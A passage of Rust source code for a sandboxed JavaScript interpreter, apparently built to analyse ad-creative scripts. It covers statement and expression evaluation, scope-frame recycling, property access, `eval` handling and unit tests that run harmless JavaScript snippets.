                    'cases: for (_, body) in &cases[start..] {
                        self.hoist_functions(body, env)?;
                        for s in body {
                            match self.exec(s, env) {
                                Ok(()) => {}
                                Err(Flow::Break) => break 'cases,
                                Err(f) => return Err(f),
                            }
                        }
                    }
                }
                Ok(())
            }
            Stmt::ForIn {
                decl: _,
                name,
                object,
                body,
            } => {
                let obj = self.eval(object, env)?;
                // Enumerate keys up front (BTreeMap order: deterministic).
                let keys: Vec<String> = match &obj {
                    Value::Obj(id) => {
                        let data = self.heap.get(*id);
                        let mut keys: Vec<String> =
                            (0..data.elements.len()).map(|i| i.to_string()).collect();
                        // Property maps keep insertion order; sort to keep
                        // the engine's historical (BTreeMap) enumeration.
                        let mut props: Vec<String> =
                            data.props.keys().map(|k| k.to_string()).collect();
                        props.sort();
                        keys.extend(props);
                        keys
                    }
                    Value::Str(s) => (0..s.chars().count()).map(|i| i.to_string()).collect(),
                    _ => Vec::new(),
                };
                for key in keys {
                    self.declare(env, name, Value::str(key));
                    match self.exec(body, env) {
                        Ok(()) | Err(Flow::Continue) => {}
                        Err(Flow::Break) => break,
                        Err(f) => return Err(f),
                    }
                }
                Ok(())
            }
            Stmt::Return(e) => {
                let v = match e {
                    Some(e) => self.eval(e, env)?,
                    None => Value::Undefined,
                };
                Err(Flow::Return(v))
            }
            Stmt::Break => Err(Flow::Break),
            Stmt::Continue => Err(Flow::Continue),
            Stmt::Throw(e) => {
                let v = self.eval(e, env)?;
                Err(Flow::Throw(v))
            }
            Stmt::Try {
                block,
                catch,
                finally,
            } => {
                let mut result: ExecResult = (|| {
                    self.hoist_functions(block, env)?;
                    for s in block {
                        self.exec(s, env)?;
                    }
                    Ok(())
                })();
                if let Err(Flow::Throw(exc)) = &result {
                    if let Some((name, handler)) = catch {
                        let exc = exc.clone();
                        let catch_env = self.push_env(env);
                        self.declare(catch_env, name, exc);
                        result = (|| {
                            self.hoist_functions(handler, catch_env)?;
                            for s in handler {
                                self.exec(s, catch_env)?;
                            }
                            Ok(())
                        })();
                    }
                }
                if let Some(fin) = finally {
                    // A throw/return inside `finally` overrides the pending
                    // completion, like JS.
                    let fin_result: ExecResult = (|| {
                        self.hoist_functions(fin, env)?;
                        for s in fin {
                            self.exec(s, env)?;
                        }
                        Ok(())
                    })();
                    fin_result?;
                }
                result
            }
        }
    }

    /// A fresh dynamic (by-name) scope: `catch` handlers.
    fn push_env(&mut self, parent: usize) -> usize {
        let scope = self.empty_scope.clone();
        self.push_frame(parent, scope, 0)
    }

    /// A fresh function scope laid out per the resolver's slot table.
    pub(crate) fn push_fn_env(&mut self, parent: usize, scope: Arc<ScopeInfo>) -> usize {
        let slots = scope.names.len();
        self.push_frame(parent, scope, slots)
    }

    /// Pushes a frame, preferring a recycled one from the pool (reused
    /// buffers — the slot vector and the `extra` map keep their capacity).
    fn push_frame(&mut self, parent: usize, scope: Arc<ScopeInfo>, slots: usize) -> usize {
        let env = match self.env_pool.pop() {
            Some(mut e) => {
                e.slots.clear();
                e.slots.resize(slots, None);
                e.extra.clear();
                e.scope = scope;
                e.parent = Some(parent);
                e
            }
            None => Env {
                slots: vec![None; slots],
                scope,
                extra: NameMap::new(),
                parent: Some(parent),
            },
        };
        self.envs.push(env);
        self.envs.len() - 1
    }

    /// Pops every frame above `watermark` into the bounded recycle pool.
    /// Only called when the capture stamp proves no closure was constructed
    /// while those frames were live, so no `Value::Fn` can reference their
    /// indices (closure identity compares `(def ptr, env index)`).
    fn reclaim_envs(&mut self, watermark: usize) {
        const POOL_CAP: usize = 64;
        while self.envs.len() > watermark {
            let e = self.envs.pop().expect("watermark below env stack");
            if self.env_pool.len() < POOL_CAP {
                self.env_pool.push(e);
            }
        }
    }

    /// Declares (or clobbers) `name` in `env` itself — `var`, parameters,
    /// hoisted functions, `for..in` bindings, `catch` parameters.
    pub(crate) fn declare(&mut self, env: usize, name: &str, value: Value) {
        match self.envs[env].scope.slot_of(name) {
            Some(i) => self.envs[env].slots[i] = Some(value),
            None => {
                self.envs[env].extra.insert(name, value);
            }
        }
    }

    // ----- expressions -----------------------------------------------------

    pub(crate) fn eval(&mut self, expr: &Expr, env: usize) -> EvalResult {
        self.step()?;
        match expr {
            Expr::Num(n) => Ok(Value::Num(*n)),
            Expr::Str(s) => Ok(Value::str(s)),
            Expr::Bool(b) => Ok(Value::Bool(*b)),
            Expr::Null => Ok(Value::Null),
            Expr::Undefined => Ok(Value::Undefined),
            Expr::This => Ok(self.try_lookup("this", env).unwrap_or(Value::Undefined)),
            Expr::Ident(name) => self.lookup(name, env),
            Expr::Local { name, depth, slot } => self.read_local(name, *depth, *slot, env),
            Expr::Array(items) => {
                let mut elements = Vec::with_capacity(items.len());
                for item in items {
                    elements.push(self.eval(item, env)?);
                }
                Ok(Value::Obj(self.heap.alloc_array(elements)))
            }
            Expr::Object(props) => {
                let id = self.heap.alloc_object();
                for (k, v) in props {
                    let value = self.eval(v, env)?;
                    self.heap.get_mut(id).props.insert(&**k, value);
                }
                Ok(Value::Obj(id))
            }
            Expr::Function(def) => {
                self.capture_stamp += 1;
                Ok(Value::Fn {
                    def: def.clone(),
                    env,
                })
            }
            Expr::Assign { target, op, value } => self.eval_assign(target, *op, value, env),
            Expr::Cond { cond, then, alt } => {
                if self.eval(cond, env)?.truthy() {
                    self.eval(then, env)
                } else {
                    self.eval(alt, env)
                }
            }
            Expr::Or(a, b) => {
                let lhs = self.eval(a, env)?;
                if lhs.truthy() {
                    Ok(lhs)
                } else {
                    self.eval(b, env)
                }
            }
            Expr::And(a, b) => {
                let lhs = self.eval(a, env)?;
                if lhs.truthy() {
                    self.eval(b, env)
                } else {
                    Ok(lhs)
                }
            }
            Expr::Bin { op, lhs, rhs } => {
                let l = self.eval(lhs, env)?;
                let r = self.eval(rhs, env)?;
                self.binop(*op, l, r)
            }
            Expr::Un { op, operand } => {
                if *op == UnOp::Typeof {
                    // typeof on an unresolvable name yields "undefined".
                    if let Expr::Ident(name) = operand.as_ref() {
                        if self.try_lookup(name, env).is_none() {
                            return Ok(Value::str("undefined"));
                        }
                    }
                }
                let v = self.eval(operand, env)?;
                Ok(match op {
                    UnOp::Neg => Value::Num(-v.to_number()),
                    UnOp::Pos => Value::Num(v.to_number()),
                    UnOp::Not => Value::Bool(!v.truthy()),
                    UnOp::BitNot => Value::Num(!(to_i32(v.to_number())) as f64),
                    UnOp::Typeof => Value::str(v.type_of()),
                    UnOp::Void => Value::Undefined,
                    UnOp::Delete => Value::Bool(true),
                })
            }
            Expr::IncDec {
                target,
                delta,
                prefix,
            } => {
                let old = self.eval(target, env)?.to_number();
                let new = old + f64::from(*delta);
                self.assign_to(target, Value::Num(new), env)?;
                Ok(Value::Num(if *prefix { new } else { old }))
            }
            Expr::Member { object, prop } => {
                let obj = self.eval(object, env)?;
                self.get_property(&obj, prop)
            }
            Expr::Index { object, index } => {
                let obj = self.eval(object, env)?;
                let idx = self.eval(index, env)?;
                let key = self.value_to_key(&idx);
                self.get_property(&obj, &key)
            }
            Expr::Call { callee, args } => self.eval_call(callee, args, env),
            Expr::New { callee, args } => {
                let mut arg_values = Vec::with_capacity(args.len());
                for a in args {
                    arg_values.push(self.eval(a, env)?);
                }
                // `new Name(...)` goes to the host; `new expr` on a script
                // function calls it with a fresh object as `this`... we
                // simplify: host first, then plain object. The resolver may
                // have rewritten the name to a `Local`; the host check is
                // by name either way.
                if let Expr::Ident(name) | Expr::Local { name, .. } = callee.as_ref() {
                    if let Some(v) = self.host.construct(&mut self.heap, name, &arg_values) {
                        return Ok(v);
                    }
                }
                let f = self.eval(callee, env);
                match f {
                    Ok(f @ Value::Fn { .. }) => {
                        let this = self.heap.alloc_object();
                        let result = self.call_function(f, Some(this), arg_values)?;
                        match result {
                            Value::Obj(_) => Ok(result),
                            _ => Ok(Value::Obj(this)),
                        }
                    }
                    _ => Ok(Value::Obj(self.heap.alloc_object())),
                }
            }
            Expr::Seq(a, b) => {
                self.eval(a, env)?;
                self.eval(b, env)
            }
        }
    }

    fn eval_assign(&mut self, target: &Expr, op: AssignOp, value: &Expr, env: usize) -> EvalResult {
        let rhs = self.eval(value, env)?;
        let new = if op == AssignOp::Assign {
            rhs
        } else {
            let old = self.eval(target, env)?;
            match op {
                AssignOp::Add => self.add_values(old, rhs),
                AssignOp::Sub => Value::Num(old.to_number() - rhs.to_number()),
                AssignOp::Mul => Value::Num(old.to_number() * rhs.to_number()),
                AssignOp::Div => Value::Num(old.to_number() / rhs.to_number()),
                AssignOp::Mod => Value::Num(old.to_number() % rhs.to_number()),
                AssignOp::Assign => unreachable!(),
            }
        };
        self.assign_to(target, new.clone(), env)?;
        Ok(new)
    }

    fn assign_to(&mut self, target: &Expr, value: Value, env: usize) -> ExecResult {
        match target {
            Expr::Ident(name) => {
                self.assign_by_name(name, value, env);
                Ok(())
            }
            Expr::Local { name, depth, slot } => {
                self.assign_local(name, *depth, *slot, value, env);
                Ok(())
            }
            Expr::Member { object, prop } => {
                let obj = self.eval(object, env)?;
                self.set_property(&obj, prop, value)
            }
            Expr::Index { object, index } => {
                let obj = self.eval(object, env)?;
                let idx = self.eval(index, env)?;
                let key = self.value_to_key(&idx);
                self.set_property(&obj, &key, value)
            }
            _ => Err(Flow::Fatal(ScriptError::Runtime(
                "invalid assignment target".into(),
            ))),
        }
    }

    /// Writes a resolver-bound local: `depth` parent hops, then a slot
    /// index, with the same unwritten-slot fallback the reads use.
    pub(crate) fn assign_local(
        &mut self,
        name: &str,
        depth: u32,
        slot: u32,
        value: Value,
        env: usize,
    ) {
        let mut target = Some(env);
        for _ in 0..depth {
            target = target.and_then(|t| self.envs[t].parent);
        }
        let Some(t) = target else {
            // Resolver/runtime mismatch (defensive): by-name walk.
            self.assign_by_name(name, value, env);
            return;
        };
        if let Some(s) = self.envs[t].slots.get_mut(slot as usize) {
            if s.is_some() {
                *s = Some(value);
                return;
            }
        }
        // Slot unwritten: the binding is not live yet, so the write
        // continues up the chain past the declaring scope — same path the
        // by-name engine takes when the key is absent.
        match self.envs[t].parent {
            Some(p) => self.assign_by_name(name, value, p),
            None => {
                self.envs[0].extra.insert(name, value);
            }
        }
    }

    pub(crate) fn lookup(&mut self, name: &str, env: usize) -> EvalResult {
        match self.try_lookup(name, env) {
            Some(v) => Ok(v),
            None => Err(Flow::Throw(Value::str(format!("{name} is not defined")))),
        }
    }

    pub(crate) fn try_lookup(&self, name: &str, env: usize) -> Option<Value> {
        let mut cur = Some(env);
        while let Some(e) = cur {
            let frame = &self.envs[e];
            if let Some(i) = frame.scope.slot_of(name) {
                // A written slot is the binding; an unwritten slot means
                // "not declared yet" — keep walking, exactly like a missing
                // key in a by-name map. (The invariant keeps slot names out
                // of `extra`, so there is nothing else to check here.)
                if let Some(v) = &frame.slots[i] {
                    return Some(v.clone());
                }
            } else if let Some(v) = frame.extra.get(name) {
                return Some(v.clone());
            }
            cur = frame.parent;
        }
        None
    }

    /// Reads a resolver-bound local: `depth` parent hops, then a slot index.
    /// Falls back to the by-name walk when the slot is unwritten (the `var`
    /// has not executed yet) so resolution is observably invisible.
    pub(crate) fn read_local(
        &mut self,
        name: &str,
        depth: u32,
        slot: u32,
        env: usize,
    ) -> EvalResult {
        let mut target = env;
        for _ in 0..depth {
            match self.envs[target].parent {
                Some(p) => target = p,
                // Resolver/runtime mismatch (defensive): by-name walk.
                None => return self.lookup(name, env),
            }
        }
        if let Some(Some(v)) = self.envs[target].slots.get(slot as usize) {
            return Ok(v.clone());
        }
        // Intermediate scopes cannot hold this name (the resolver proved
        // it), so resuming the walk above the declaring scope is the same
        // answer the unresolved engine would produce.
        match self.envs[target].parent {
            Some(p) => self.lookup(name, p),
            None => Err(Flow::Throw(Value::str(format!("{name} is not defined")))),
        }
    }

    /// The by-name assignment walk: write the innermost binding, else
    /// create a global (non-strict `var`-less assignment).
    pub(crate) fn assign_by_name(&mut self, name: &str, value: Value, env: usize) {
        let mut cur = Some(env);
        while let Some(e) = cur {
            if let Some(i) = self.envs[e].scope.slot_of(name) {
                if self.envs[e].slots[i].is_some() {
                    self.envs[e].slots[i] = Some(value);
                    return;
                }
            } else if self.envs[e].extra.contains_key(name) {
                self.envs[e].extra.insert(name, value);
                return;
            }
            cur = self.envs[e].parent;
        }
        self.envs[0].extra.insert(name, value);
    }

    pub(crate) fn value_to_key(&self, v: &Value) -> String {
        match v {
            Value::Str(s) => s.to_string(),
            Value::Num(n) => number_to_string(*n),
            other => self.display_value(other),
        }
    }

    /// Converts a value to its display string (`ToString`).
    pub fn display_value(&self, v: &Value) -> String {
        match v {
            Value::Undefined => "undefined".to_string(),
            Value::Null => "null".to_string(),
            Value::Bool(b) => b.to_string(),
            Value::Num(n) => number_to_string(*n),
            Value::Str(s) => s.to_string(),
            Value::Obj(id) => {
                let data = self.heap.get(*id);
                match data.kind {
                    ObjKind::Array => {
                        let parts: Vec<String> = data
                            .elements
                            .iter()
                            .map(|e| match e {
                                Value::Undefined | Value::Null => String::new(),
                                other => self.display_value(other),
                            })
                            .collect();
                        parts.join(",")
                    }
                    ObjKind::Native => format!("[object {}]", data.tag),
                    ObjKind::Plain => "[object Object]".to_string(),
                }
            }
            Value::Fn { .. } | Value::Native(_) => "function".to_string(),
        }
    }

    pub(crate) fn get_property(&mut self, obj: &Value, key: &str) -> EvalResult {
        match obj {
            Value::Str(s) => {
                if key == "length" {
                    return Ok(Value::Num(s.chars().count() as f64));
                }
                if let Some(f) = stdlib::str_method(key) {
                    return Ok(f);
                }
                // Indexing a string: s[0].
                if let Ok(idx) = key.parse::<usize>() {
                    return Ok(s
                        .chars()
                        .nth(idx)
                        .map(|c| Value::str(c.to_string()))
                        .unwrap_or(Value::Undefined));
                }
                Ok(Value::Undefined)
            }
            Value::Obj(id) => {
                let data = self.heap.get(*id);
                match data.kind {
                    ObjKind::Array => {
                        if key == "length" {
                            return Ok(Value::Num(data.elements.len() as f64));
                        }
                        if let Ok(idx) = key.parse::<usize>() {
                            return Ok(data.elements.get(idx).cloned().unwrap_or(Value::Undefined));
                        }
                        if let Some(f) = stdlib::arr_method(key) {
                            return Ok(f);
                        }
                        Ok(data.props.get(key).cloned().unwrap_or(Value::Undefined))
                    }
                    ObjKind::Native => {
                        let tag = data.tag.clone();
                        if let Some(v) = self.host.get_prop(&mut self.heap, &tag, *id, key) {
                            return Ok(v);
                        }
                        Ok(self
                            .heap
                            .get(*id)
                            .props
                            .get(key)
                            .cloned()
                            .unwrap_or(Value::Undefined))
                    }
                    ObjKind::Plain => Ok(data.props.get(key).cloned().unwrap_or(Value::Undefined)),
                }
            }
            Value::Num(_) => {
                if let Some(f) = stdlib::num_method(key) {
                    return Ok(f);
                }
                Ok(Value::Undefined)
            }
            Value::Bool(_) => Ok(Value::Undefined),
            Value::Undefined | Value::Null => Err(Flow::Throw(Value::str(format!(
                "cannot read property '{key}' of {}",
                obj.type_of()
            )))),
            Value::Fn { .. } | Value::Native(_) => Ok(Value::Undefined),
        }
    }

    pub(crate) fn set_property(&mut self, obj: &Value, key: &str, value: Value) -> ExecResult {
        match obj {
            Value::Obj(id) => {
                let kind = self.heap.get(*id).kind;
                match kind {
                    ObjKind::Array => {
                        if let Ok(idx) = key.parse::<usize>() {
                            let elements = &mut self.heap.get_mut(*id).elements;
                            if idx >= elements.len() {
                                elements.resize(idx + 1, Value::Undefined);
                            }
                            elements[idx] = value;
                            return Ok(());
                        }
                        if key == "length" {
                            let new_len = value.to_number().max(0.0) as usize;
                            self.heap
                                .get_mut(*id)
                                .elements
                                .resize(new_len, Value::Undefined);
                            return Ok(());
                        }
                        self.heap.get_mut(*id).props.insert(key, value);
                        Ok(())
                    }
                    ObjKind::Native => {
                        let tag = self.heap.get(*id).tag.clone();
                        if self.host.set_prop(&mut self.heap, &tag, *id, key, &value) {
                            return Ok(());
                        }
                        self.heap.get_mut(*id).props.insert(key, value);
                        Ok(())
                    }
                    ObjKind::Plain => {
                        self.heap.get_mut(*id).props.insert(key, value);
                        Ok(())
                    }
                }
            }
            Value::Undefined | Value::Null => Err(Flow::Throw(Value::str(format!(
                "cannot set property '{key}' of {}",
                obj.type_of()
            )))),
            // Setting on primitives is silently ignored, like non-strict JS.
            _ => Ok(()),
        }
    }

    fn eval_call(&mut self, callee: &Expr, args: &[Expr], env: usize) -> EvalResult {
        let mut arg_values = Vec::with_capacity(args.len());
        // Evaluate callee first (receiver included), then arguments — JS order.
        let (f, this) = match callee {
            Expr::Member { object, prop } => {
                let obj = self.eval(object, env)?;
                let f = self.get_property(&obj, prop)?;
                let this = match &obj {
                    Value::Obj(id) => Some(*id),
                    _ => None,
                };
                // Method on a string/number primitive: pass the receiver via
                // a synthetic first argument handled by the stdlib
                // dispatcher.
                match &obj {
                    Value::Str(s) => arg_values.push(Value::Str(s.clone())),
                    Value::Num(n) => arg_values.push(Value::Num(*n)),
                    _ => {}
                }
                (f, this)
            }
            Expr::Index { object, index } => {
                let obj = self.eval(object, env)?;
                let idx = self.eval(index, env)?;
                let key = self.value_to_key(&idx);
                let f = self.get_property(&obj, &key)?;
                let this = match &obj {
                    Value::Obj(id) => Some(*id),
                    _ => None,
                };
                match &obj {
                    Value::Str(s) => arg_values.push(Value::Str(s.clone())),
                    Value::Num(n) => arg_values.push(Value::Num(*n)),
                    _ => {}
                }
                (f, this)
            }
            other => (self.eval(other, env)?, None),
        };
        for a in args {
            arg_values.push(self.eval(a, env)?);
        }
        // `eval` is special: it must run in the *current* environment.
        if let Value::Native(name) = &f {
            if *name == stdlib::eval_sym() {
                let src = match arg_values.first() {
                    Some(Value::Str(s)) => s.to_string(),
                    Some(other) => return Ok(other.clone()),
                    None => return Ok(Value::Undefined),
                };
                return self.eval_in_env(&src, env);
            }
        }
        self.call_function(f, this, arg_values)
    }

    pub(crate) fn eval_in_env(&mut self, src: &str, env: usize) -> EvalResult {
        self.eval_trace.push(src.to_string());
        // Obfuscated creatives `eval` identical payloads repeatedly — the
        // compile cache serves them the same parsed program.
        let compiled = match &self.script_cache {
            Some(cache) => cache.compile(src),
            None => CompiledScript::compile(src),
        };
        let script = match compiled {
            Ok(s) => s,
            Err(e) => {
                return Err(Flow::Throw(Value::str(format!("eval: {e}"))));
            }
        };
        self.units += 1;
        let body = &script.program().body;
        self.hoist_functions(body, env)?;
        for stmt in body {
            match self.exec(stmt, env) {
                Ok(()) => {}
                Err(Flow::Return(v)) => return Ok(v),
                Err(f) => return Err(f),
            }
        }
        Ok(Value::Undefined)
    }

    pub(crate) fn call_function(
        &mut self,
        f: Value,
        this: Option<ObjId>,
        args: Vec<Value>,
    ) -> EvalResult {
        match f {
            Value::Fn { def, env } => {
                if self.depth >= self.limits.max_depth {
                    return Err(Flow::Fatal(ScriptError::BudgetExhausted));
                }
                self.depth += 1;
                // Frame-reuse snapshot: if no closure is constructed while
                // the frames of this call are live, nothing can reference
                // them after it returns and they go back to the pool.
                let watermark = self.envs.len();
                let stamp = self.capture_stamp;
                let call_env = self.push_fn_env(env, def.scope.clone());
                if def.scope.param_slots.len() == def.params.len() {
                    // Resolved scope: parameters bind straight into their
                    // slots, no by-name probe per call.
                    for (i, &slot) in def.scope.param_slots.iter().enumerate() {
                        let v = args.get(i).cloned().unwrap_or(Value::Undefined);
                        self.envs[call_env].slots[slot as usize] = Some(v);
                    }
                } else {
                    for (i, p) in def.params.iter().enumerate() {
                        let v = args.get(i).cloned().unwrap_or(Value::Undefined);
                        self.declare(call_env, p, v);
                    }
                }
                // The `arguments` array — skipped when the resolver proved
                // the body can never observe it (most calls), since the
                // allocation charges no steps and the binding is invisible
                // unless read.
                if !def.scope.arguments_unused {
                    let args_arr = self.heap.alloc_array(args);
                    self.declare(call_env, "arguments", Value::Obj(args_arr));
                }
                if let Some(this_id) = this {
                    // `this` is a keyword, never a slot name.
                    self.declare(call_env, "this", Value::Obj(this_id));
                }
                let result = match self.engine {
                    ScriptEngine::Vm => {
                        // Function bodies compile lazily, once per
                        // definition; the chunk is shared by every closure
                        // over this definition and every worker.
                        let chunk = def
                            .code
                            .get_or_init(|| Arc::new(crate::compile::compile_fn(&def)))
                            .clone();
                        match self.run_chunk(&chunk, call_env) {
                            Ok(Some(v)) => Ok(v),
                            Ok(None) => Ok(Value::Undefined),
                            Err(f) => Err(f),
                        }
                    }
                    ScriptEngine::TreeWalk => (|| {
                        self.hoist_functions(&def.body, call_env)?;
                        for stmt in def.body.iter() {
                            match self.exec(stmt, call_env) {
                                Ok(()) => {}
                                Err(Flow::Return(v)) => return Ok(v),
                                Err(f) => return Err(f),
                            }
                        }
                        Ok(Value::Undefined)
                    })(),
                };
                self.depth -= 1;
                if self.capture_stamp == stamp {
                    self.reclaim_envs(watermark);
                }
                result
            }
            Value::Native(name) => {
                if let Some(rest) = name.as_str().strip_prefix("std:") {
                    return stdlib::call(self, rest, this, &args).map_err(Flow::Throw);
                }
                match self.host.call(&mut self.heap, name.as_str(), this, &args) {
                    Ok(v) => Ok(v),
                    Err(msg) => Err(Flow::Throw(Value::str(msg))),
                }
            }
            other => Err(Flow::Throw(Value::str(format!(
                "{} is not a function",
                other.type_of()
            )))),
        }
    }

    fn add_values(&mut self, l: Value, r: Value) -> Value {
        // JS `+`: string concatenation when either side is a string or an
        // object (which stringifies).
        let l_str = matches!(l, Value::Str(_) | Value::Obj(_));
        let r_str = matches!(r, Value::Str(_) | Value::Obj(_));
        if l_str || r_str {
            let mut s = self.display_value(&l);
            s.push_str(&self.display_value(&r));
            Value::str(s)
        } else {
            Value::Num(l.to_number() + r.to_number())
        }
    }

    pub(crate) fn binop(&mut self, op: BinOp, l: Value, r: Value) -> EvalResult {
        let v = match op {
            BinOp::Add => self.add_values(l, r),
            BinOp::Sub => Value::Num(l.to_number() - r.to_number()),
            BinOp::Mul => Value::Num(l.to_number() * r.to_number()),
            BinOp::Div => Value::Num(l.to_number() / r.to_number()),
            BinOp::Mod => Value::Num(l.to_number() % r.to_number()),
            BinOp::EqStrict => Value::Bool(l.strict_eq(&r)),
            BinOp::NeStrict => Value::Bool(!l.strict_eq(&r)),
            BinOp::EqLoose => Value::Bool(self.loose_eq(&l, &r)),
            BinOp::NeLoose => Value::Bool(!self.loose_eq(&l, &r)),
            BinOp::Lt | BinOp::Gt | BinOp::Le | BinOp::Ge => {
                // String-vs-string comparison is lexicographic.
                if let (Value::Str(a), Value::Str(b)) = (&l, &r) {
                    let ord = a.cmp(b);
                    Value::Bool(match op {
                        BinOp::Lt => ord.is_lt(),
                        BinOp::Gt => ord.is_gt(),
                        BinOp::Le => ord.is_le(),
                        BinOp::Ge => ord.is_ge(),
                        _ => unreachable!(),
                    })
                } else {
                    let a = l.to_number();
                    let b = r.to_number();
                    Value::Bool(match op {
                        BinOp::Lt => a < b,
                        BinOp::Gt => a > b,
                        BinOp::Le => a <= b,
                        BinOp::Ge => a >= b,
                        _ => unreachable!(),
                    })
                }
            }
            BinOp::BitAnd => Value::Num((to_i32(l.to_number()) & to_i32(r.to_number())) as f64),
            BinOp::BitOr => Value::Num((to_i32(l.to_number()) | to_i32(r.to_number())) as f64),
            BinOp::BitXor => Value::Num((to_i32(l.to_number()) ^ to_i32(r.to_number())) as f64),
            BinOp::Shl => {
                Value::Num((to_i32(l.to_number()) << (to_u32(r.to_number()) & 31)) as f64)
            }
            BinOp::Shr => {
                Value::Num((to_i32(l.to_number()) >> (to_u32(r.to_number()) & 31)) as f64)
            }
            BinOp::UShr => {
                Value::Num((to_u32(l.to_number()) >> (to_u32(r.to_number()) & 31)) as f64)
            }
            BinOp::Instanceof => Value::Bool(false),
            BinOp::In => {
                let key = self.value_to_key(&l);
                match r {
                    Value::Obj(id) => {
                        let data = self.heap.get(id);
                        Value::Bool(
                            data.props.contains_key(&key)
                                || key
                                    .parse::<usize>()
                                    .map(|i| i < data.elements.len())
                                    .unwrap_or(false),
                        )
                    }
                    _ => Value::Bool(false),
                }
            }
        };
        Ok(v)
    }

    fn loose_eq(&self, l: &Value, r: &Value) -> bool {
        match (l, r) {
            (Value::Null | Value::Undefined, Value::Null | Value::Undefined) => true,
            (Value::Null | Value::Undefined, _) | (_, Value::Null | Value::Undefined) => false,
            (Value::Num(_), Value::Str(_))
            | (Value::Str(_), Value::Num(_))
            | (Value::Bool(_), _)
            | (_, Value::Bool(_)) => {
                let a = l.to_number();
                let b = r.to_number();
                a == b
            }
            _ => l.strict_eq(r),
        }
    }

    /// Deterministic `Math.random` draw (stdlib hook).
    pub(crate) fn random(&mut self) -> f64 {
        self.rng.unit_f64()
    }
}

pub(crate) fn to_i32(n: f64) -> i32 {
    if !n.is_finite() {
        return 0;
    }
    (n as i64 & 0xFFFF_FFFF) as u32 as i32
}

pub(crate) fn to_u32(n: f64) -> u32 {
    to_i32(n) as u32
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(src: &str) -> Value {
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.run(src).unwrap()
    }

    /// Run and return the display string of global `out`.
    fn out(src: &str) -> String {
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.run(src).unwrap();
        let v = interp
            .get_global("out")
            .cloned()
            .unwrap_or(Value::Undefined);
        interp.display_value(&v)
    }

    #[test]
    fn arithmetic_and_precedence() {
        assert_eq!(out("out = 1 + 2 * 3 - 4 / 2;"), "5");
        assert_eq!(out("out = (1 + 2) * 3;"), "9");
        assert_eq!(out("out = 7 % 3;"), "1");
    }

    #[test]
    fn string_concat_semantics() {
        assert_eq!(out("out = 'a' + 'b';"), "ab");
        assert_eq!(out("out = 1 + '2';"), "12");
        assert_eq!(out("out = '3' + 4;"), "34");
        assert_eq!(out("out = 1 + 2 + 'x';"), "3x");
        assert_eq!(out("out = 'x' + 1 + 2;"), "x12");
    }

    #[test]
    fn variables_and_scope_chain() {
        assert_eq!(
            out("var a = 1; function f() { return a + 1; } out = f();"),
            "2"
        );
    }

    #[test]
    fn closures_capture_environment() {
        assert_eq!(
            out(
                "function counter() { var n = 0; return function() { n = n + 1; return n; }; } \
                 var c = counter(); c(); c(); out = c();"
            ),
            "3"
        );
    }

    #[test]
    fn var_is_function_scoped_not_block_scoped() {
        assert_eq!(
            out("function f() { if (true) { var x = 5; } return x; } out = f();"),
            "5"
        );
    }

    #[test]
    fn undeclared_assignment_creates_global() {
        assert_eq!(out("function f() { leak = 42; } f(); out = leak;"), "42");
    }

    #[test]
    fn if_else_chains() {
        assert_eq!(
            out("var x = 5; if (x > 3) { out = 'big'; } else { out = 'small'; }"),
            "big"
        );
        assert_eq!(
            out("var x = 1; if (x > 3) out = 'big'; else out = 'small';"),
            "small"
        );
    }

    #[test]
    fn while_and_for_loops() {
        assert_eq!(
            out("var s = 0; for (var i = 1; i <= 10; i++) { s += i; } out = s;"),
            "55"
        );
        assert_eq!(out("var n = 0; while (n < 5) { n++; } out = n;"), "5");
        assert_eq!(out("var n = 10; do { n--; } while (n > 7); out = n;"), "7");
    }

    #[test]
    fn break_and_continue() {
        assert_eq!(
            out("var s = 0; for (var i = 0; i < 10; i++) { if (i == 5) break; s += i; } out = s;"),
            "10"
        );
        assert_eq!(
            out("var s = 0; for (var i = 0; i < 5; i++) { if (i % 2 == 0) continue; s += i; } out = s;"),
            "4"
        );
    }

    #[test]
    fn arrays() {
        assert_eq!(out("var a = [1, 2, 3]; out = a.length;"), "3");
        assert_eq!(out("var a = [1, 2, 3]; a.push(4); out = a[3];"), "4");
        assert_eq!(out("var a = [1, 2]; out = a.join('-');"), "1-2");
        assert_eq!(out("var a = []; a[5] = 'x'; out = a.length;"), "6");
        assert_eq!(out("var a = [9, 8]; out = a.pop();"), "8");
    }

    #[test]
    fn objects() {
        assert_eq!(out("var o = {x: 1, y: 'two'}; out = o.x + o.y;"), "1two");
        assert_eq!(
            out("var o = {}; o.a = 5; o['b'] = 6; out = o.a + o['b'];"),
            "11"
        );
        assert_eq!(out("var o = {n: {m: 3}}; out = o.n.m;"), "3");
    }

    #[test]
    fn equality_rules() {
        assert_eq!(out("out = (1 == '1');"), "true");
        assert_eq!(out("out = (1 === '1');"), "false");
        assert_eq!(out("out = (null == undefined);"), "true");
        assert_eq!(out("out = (null === undefined);"), "false");
        assert_eq!(out("out = (0 == false);"), "true");
    }

    #[test]
    fn typeof_operator() {
        assert_eq!(out("out = typeof 5;"), "number");
        assert_eq!(out("out = typeof 'x';"), "string");
        assert_eq!(out("out = typeof {};"), "object");
        assert_eq!(out("out = typeof undefinedName;"), "undefined");
        assert_eq!(out("out = typeof function(){};"), "function");
    }

    #[test]
    fn ternary_and_logical() {
        assert_eq!(out("out = 1 > 0 ? 'yes' : 'no';"), "yes");
        assert_eq!(out("out = null || 'fallback';"), "fallback");
        assert_eq!(out("out = 'first' && 'second';"), "second");
        assert_eq!(out("out = 0 && explode();"), "0"); // short circuit
    }

    #[test]
    fn inc_dec_pre_post() {
        assert_eq!(out("var i = 5; out = i++;"), "5");
        assert_eq!(out("var i = 5; out = ++i;"), "6");
        assert_eq!(out("var i = 5; i++; out = i;"), "6");
        assert_eq!(out("var a = [3]; a[0]++; out = a[0];"), "4");
    }

    #[test]
    fn try_catch_throw() {
        assert_eq!(
            out("try { throw 'boom'; out = 'not reached'; } catch (e) { out = 'caught:' + e; }"),
            "caught:boom"
        );
        assert_eq!(
            out("var log = ''; try { log += 'a'; } finally { log += 'b'; } out = log;"),
            "ab"
        );
    }

    #[test]
    fn runtime_error_is_catchable() {
        assert_eq!(
            out("try { missing.prop = 1; } catch (e) { out = 'recovered'; }"),
            "recovered"
        );
    }

    #[test]
    fn uncaught_throw_is_error() {
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        let err = interp.run("throw 'fatal';").unwrap_err();
        assert!(matches!(err, ScriptError::Runtime(m) if m.contains("fatal")));
    }

    #[test]
